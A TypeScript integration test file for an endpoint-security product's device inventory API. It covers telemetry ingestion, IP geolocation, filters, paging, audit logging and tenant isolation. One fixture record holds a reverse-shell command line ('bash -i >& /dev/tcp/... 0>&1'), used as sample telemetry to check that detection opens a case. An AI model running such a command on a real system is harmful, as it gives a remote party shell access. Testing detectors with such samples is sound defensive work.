// The device inventory through HTTP on SQLite and PostgreSQL: built by the detection thread from
// endpoint records posted to the collector (generic shape), with endpoint ID, last user, OS,
// addresses located in the bundled DB-IP database (public IPv4 and IPv6; private ones labelled),
// processes, cases; filters and pages of GET /v1/devices; edits audited; tenant isolation.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { setTimeout as sleep } from 'node:timers/promises';
import { closeOpened } from '../helpers/suite.js';
import { databaseTargets, type TestDatabase } from '../helpers/databases.js';
import { startServer, type TestServer } from '../helpers/server.js';
import {
  apiClient,
  bearer,
  issueToken,
  seedTenant,
  type ApiClient,
  type ApiResponse,
  type Problem,
} from '../helpers/api.js';
import type { CaseDetail, CaseSearch, Page, Readiness } from '../helpers/responses.js';
import { allPermissions } from '../../src/identity/permissions.js';
import type { Tenant } from '../../src/identity/tenants/tenant-service.js';
import type { DeviceView, getDevice } from '../../src/devices/device-service.js';
import type { CaseView } from '../../src/cases/case-service.js';
import type { AuditEvent } from '../../src/identity/audit/audit-service.js';

type DeviceDetail = Awaited<ReturnType<typeof getDevice>>;
type Devices = Page<'devices', DeviceView>;

const NOW = Date.now();
const minutesAgo = (minutes: number) => new Date(NOW - minutes * 60_000).toISOString();

// Verified against the bundled database (MmdbGeoIp.bundled().locate) before being asserted here.
const GB = { ip: '81.2.69.142', scope: 'public', country_code: 'GB', country: 'United Kingdom', city: 'London' };
const DE = {
  ip: '2a00:1450:4001::1',
  scope: 'public',
  country_code: 'DE',
  country: 'Germany',
  city: 'Frankfurt am Main',
};
const PRIVATE = { ip: '10.20.30.40', scope: 'private', country_code: null, country: null, city: null };

/** Endpoint records in the generic shape (src/telemetry/normalise/generic.ts). */
const records: Record<string, unknown>[] = [
  {
    type: 'process',
    timestamp: minutesAgo(10),
    host: 'dev-gb',
    endpoint_id: 'ep-gb',
    user: 'www-data',
    os: 'linux',
    process: { name: 'nginx', pid: 812, executable: '/usr/sbin/nginx', command_line: 'nginx: worker process' },
    parent: { name: 'nginx', pid: 800, executable: '/usr/sbin/nginx', command_line: 'nginx: master process' },
  },
  {
    type: 'network',
    timestamp: minutesAgo(9),
    host: 'dev-gb',
    endpoint_id: 'ep-gb',
    user: 'alice',
    os: 'linux',
    process: { name: 'curl', pid: 4321, executable: '/usr/bin/curl' },
    source: { ip: GB.ip, port: 51234 },
    destination: { ip: '93.184.216.34', port: 443 },
    protocol: 'tcp',
    direction: 'outbound',
  },
  // No direction: the source is still the device's own address.
  {
    type: 'network',
    timestamp: minutesAgo(8),
    host: 'dev-gb',
    endpoint_id: 'ep-gb',
    user: 'alice',
    os: 'linux',
    process: { name: 'dig', pid: 4400, executable: '/usr/bin/dig' },
    source: { ip: PRIVATE.ip, port: 40000 },
    destination: { ip: '10.20.30.1', port: 53 },
    protocol: 'udp',
  },
  // Inbound: the destination is the device's; the remote source (the GB address) is not.
  {
    type: 'network',
    timestamp: minutesAgo(7),
    host: 'dev-de',
    endpoint_id: 'ep-de',
    user: 'CORP\\bob',
    os: 'windows',
    process: { name: 'svchost.exe', pid: 1200, executable: 'C:\\Windows\\System32\\svchost.exe' },
    source: { ip: GB.ip, port: 50000 },
    destination: { ip: DE.ip, port: 443 },
    protocol: 'tcp',
    direction: 'inbound',
  },
  // A reverse shell (detected: opens a case), with its address in host_ip.
  {
    type: 'process',
    timestamp: minutesAgo(6),
    host: 'dev-shell',
    host_ip: '10.9.8.7',
    endpoint_id: 'ep-shell',
    user: 'www-data',
    os: 'linux',
    process: {
      name: 'bash',
      pid: 31337,
      executable: '/bin/bash',
      command_line: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
    },
    parent: { name: 'php-fpm', pid: 900, executable: '/usr/sbin/php-fpm8.2', command_line: 'php-fpm: pool www' },
  },
  {
    type: 'process',
    timestamp: minutesAgo(30 * 24 * 60),
    host: 'dev-old',
    os: 'linux',
    process: { name: 'cron', pid: 1, executable: '/usr/sbin/cron' },
  },
  // The same device as dev-gb under another spelling of its name (older, so the newest values stay).
  {
    type: 'process',
    timestamp: minutesAgo(11),
    host: 'DEV-GB',
    endpoint_id: 'ep-gb',
    user: 'root',
    os: 'linux',
    process: { name: 'sshd', pid: 700, executable: '/usr/sbin/sshd', command_line: '/usr/sbin/sshd -D' },
  },
];

for (const target of databaseTargets) {
  describe(`devices API on ${target.kind}`, { skip: target.skip }, () => {
    let database: TestDatabase;
    let server: TestServer;
    let acme: Tenant;
    let admin: ApiClient;

    before(async () => {
      database = await target.create();
      server = await startServer(database);
      acme = await seedTenant(server, 'acme');
      admin = apiClient(server, bearer((await issueToken(server, acme, allPermissions, { name: 'acme admin' })).value));
      const body = records.map((record) => JSON.stringify(record)).join('\n') + '\n';
      const response = await server.post(body, {
        'content-type': 'application/x-ndjson',
        host: 'acme-collector.localhost',
      });
      assert.equal(response.status, 201, await response.text());
      // The detection thread builds the inventory: wait until it has read every record.
      const deadline = Date.now() + 20_000;
      for (;;) {
        const ready = await apiClient(server).get<Readiness>('/readyz');
        if (ready.body.detection_lag_records === 0 && (await listed('')).length === 4) break;
        if (Date.now() > deadline) assert.fail(`detection did not catch up: ${JSON.stringify(ready.body)}`);
        await sleep(50);
      }
    });
    after(() => closeOpened(server, database));

    async function listed(query: string): Promise<DeviceView[]> {
      const response = await admin.get<Devices>(`/v1/devices?limit=100${query}`);
      assert.equal(response.status, 200, JSON.stringify(response.body));
      return response.body.devices;
    }
    const names = async (query: string) => (await listed(query)).map((device) => device.host_name).sort();

    async function device(name: string): Promise<DeviceDetail> {
      const found = (await listed(`&name=${name}`)).filter((item) => item.host_name === name);
      assert.equal(found.length, 1, `device ${name}`);
      const response = await admin.get<DeviceDetail>(`/v1/devices/${found[0]!.id}`);
      assert.equal(response.status, 200, JSON.stringify(response.body));
      return response.body;
    }

    const located = (addresses: DeviceView['addresses']) =>
      addresses
        .map(({ ip, scope, country_code, country, city }) => ({ ip, scope, country_code, country, city }))
        .sort((a, b) => a.ip.localeCompare(b.ip));

    test('telemetry builds the inventory: endpoint ID, last user, OS, and addresses located (public IPv4, private, public IPv6)', async () => {
      assert.deepEqual(
        await names(''),
        ['dev-de', 'dev-gb', 'dev-old', 'dev-shell'],
        'one device per host name, compared case-insensitively',
      );
      const gb = await device('dev-gb');
      assert.equal(gb.endpoint_id, 'ep-gb');
      assert.equal(gb.last_user, 'alice', 'the newest event names the user');
      assert.equal(gb.os, 'linux');
      assert.equal(gb.criticality, 'medium');
      assert.equal(gb.last_seen, minutesAgo(8));
      assert.equal(gb.first_seen, minutesAgo(11));
      assert.match(gb.id, /^dev_/);
      assert.deepEqual(
        located(gb.addresses),
        [PRIVATE, GB].sort((a, b) => a.ip.localeCompare(b.ip)),
      );
      for (const address of gb.addresses)
        assert.equal(address.first_seen, address.ip === GB.ip ? minutesAgo(9) : minutesAgo(8));

      const de = await device('dev-de');
      assert.equal(de.endpoint_id, 'ep-de');
      assert.equal(de.last_user, 'CORP\\bob');
      assert.equal(de.os, 'windows');
      assert.deepEqual(
        located(de.addresses),
        [DE],
        'an inbound connection gives the destination, not the remote source',
      );

      const shell = await device('dev-shell');
      assert.deepEqual(
        located(shell.addresses),
        [{ ip: '10.9.8.7', scope: 'private', country_code: null, country: null, city: null }],
        'host_ip is the device address',
      );
    });

    test('GET /v1/devices/{id}: the processes seen (name, PID, path) and the cases on the device', async () => {
      const gb = await device('dev-gb');
      const nginx = gb.processes.find((process) => process.process_name === 'nginx');
      assert.deepEqual(nginx, {
        process_name: 'nginx',
        pid: 812,
        executable_path: '/usr/sbin/nginx',
        user: 'www-data',
        last_seen: minutesAgo(10),
      });
      assert.ok(
        !gb.processes.some((process) => process.process_name === 'bash'),
        "another device's processes are not listed",
      );

      const shell = await device('dev-shell');
      assert.ok(
        shell.processes.some(
          (process) =>
            process.process_name === 'bash' && process.pid === 31337 && process.executable_path === '/bin/bash',
        ),
      );
      assert.equal(shell.cases.length, 1, 'the reverse shell opened a case');
      assert.deepEqual(shell.open_case_ids, [shell.cases[0]!.id]);
      const opened = (await admin.get<CaseDetail>(`/v1/cases/${shell.cases[0]!.id}`)).body;
      assert.deepEqual(
        opened.devices.map((item) => item.id),
        [shell.id],
      );
      assert.equal(
        opened.devices[0]!.addresses[0]!.scope,
        'private',
        'the case shows its devices with their addresses',
      );
      assert.equal((await device('dev-old')).cases.length, 0);
    });

    test('processes reported under another spelling of the host name belong to the same device', async () => {
      const gb = await device('dev-gb');
      const sshd = gb.processes.find((process) => process.process_name === 'sshd');
      assert.deepEqual(
        sshd,
        { process_name: 'sshd', pid: 700, executable_path: '/usr/sbin/sshd', user: 'root', last_seen: minutesAgo(11) },
        `processes of dev-gb: ${JSON.stringify(gb.processes)}`,
      );
    });

    test('GET /v1/devices filters by name, ip, seen_since and has_open_case, and pages without repeats', async () => {
      assert.deepEqual(await names('&name=DEV-G'), ['dev-gb']);
      assert.deepEqual(await names('&name=_'), [], 'LIKE wildcards in the name are literal');
      assert.deepEqual(await names(`&ip=${GB.ip}`), ['dev-gb']);
      assert.deepEqual(await names(`&ip=${PRIVATE.ip}`), ['dev-gb']);
      assert.deepEqual(await names(`&ip=${encodeURIComponent(DE.ip.toUpperCase())}`), ['dev-de']);
      assert.deepEqual(await names('&ip=192.0.2.1'), []);
      assert.deepEqual(await names(`&seen_since=${encodeURIComponent(minutesAgo(60))}`), [
        'dev-de',
        'dev-gb',
        'dev-shell',
      ]);
      assert.deepEqual(
        (await listed('')).map((item) => item.host_name),
        ['dev-shell', 'dev-de', 'dev-gb', 'dev-old'],
        'most recently seen first',
      );

      const open = await listed('&has_open_case=true');
      assert.ok(open.some((item) => item.host_name === 'dev-shell'));
      assert.ok(open.every((item) => item.open_case_ids.length > 0));
      const quiet = await listed('&has_open_case=false');
      assert.ok(quiet.some((item) => item.host_name === 'dev-old'));
      assert.ok(quiet.every((item) => item.open_case_ids.length === 0));
      assert.equal(open.length + quiet.length, 4);

      const shellCase: CaseView = (await admin.post<CaseSearch>('/v1/cases', { text: 'dev-shell' })).body.cases[0]!;
      const closed = await admin.patch(`/v1/cases/${shellCase.id}`, {
        version: shellCase.version,
        status: 'closed',
        resolution: 'true_positive',
      });
      assert.equal(closed.status, 200, JSON.stringify(closed.body));
      assert.ok((await names('&has_open_case=false')).includes('dev-shell'), 'a closed case is not open');

      const all = (await listed('')).map((item) => item.id);
      const paged: string[] = [];
      let cursor: string | null = null;
      do {
        const response: ApiResponse<Devices> = await admin.get(
          `/v1/devices?limit=1${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`,
        );
        assert.equal(response.status, 200, JSON.stringify(response.body));
        paged.push(...response.body.devices.map((item) => item.id));
        cursor = response.body.next_cursor;
      } while (cursor);
      assert.deepEqual(paged, all);
    });

    test('an edit is audited with what changed, from and to; an edit that changes nothing is not', async () => {
      const old = await device('dev-old');
      const edit = (body: Record<string, unknown>) => admin.patch<DeviceView>(`/v1/devices/${old.id}`, body);
      assert.equal((await edit({ description: 'Build server', criticality: 'high' })).status, 200);
      assert.equal((await edit({ criticality: 'high' })).status, 200);
      const audit = await admin.get<{ events: AuditEvent[] }>('/v1/audit-events?action=device.updated&limit=50');
      assert.equal(audit.status, 200, JSON.stringify(audit.body));
      const events = audit.body.events.filter((event) => event.target?.id === old.id);
      assert.equal(events.length, 1, JSON.stringify(audit.body.events));
      assert.equal(events[0]!.actor.label, 'acme admin');
      assert.deepEqual(events[0]!.details, {
        host_name: 'dev-old',
        description: { from: old.description, to: 'Build server' },
        criticality: { from: 'medium', to: 'high' },
      });
    });

    test('another tenant gets 404 for the device and lists none of them; reading needs devices:read', async () => {
      const gb = await device('dev-gb');
      const globex = await seedTenant(server, 'globex');
      const outsider = apiClient(server, bearer((await issueToken(server, globex, allPermissions)).value));
      const read = await outsider.get<Problem>(`/v1/devices/${gb.id}`);
      assert.equal(read.status, 404);
      assert.equal(read.body.code, 'not_found');
      assert.equal((await outsider.patch(`/v1/devices/${gb.id}`, { criticality: 'low' })).status, 404);
      assert.deepEqual((await outsider.get<Devices>('/v1/devices')).body.devices, []);
      assert.equal((await device('dev-gb')).criticality, 'medium');
      const casesOnly = apiClient(server, bearer((await issueToken(server, acme, ['cases:read'])).value));
      const denied = await casesOnly.get<Problem>('/v1/devices');
      assert.equal(denied.status, 403);
      assert.equal(denied.body.required_permission, 'devices:read');
    });
  });
}
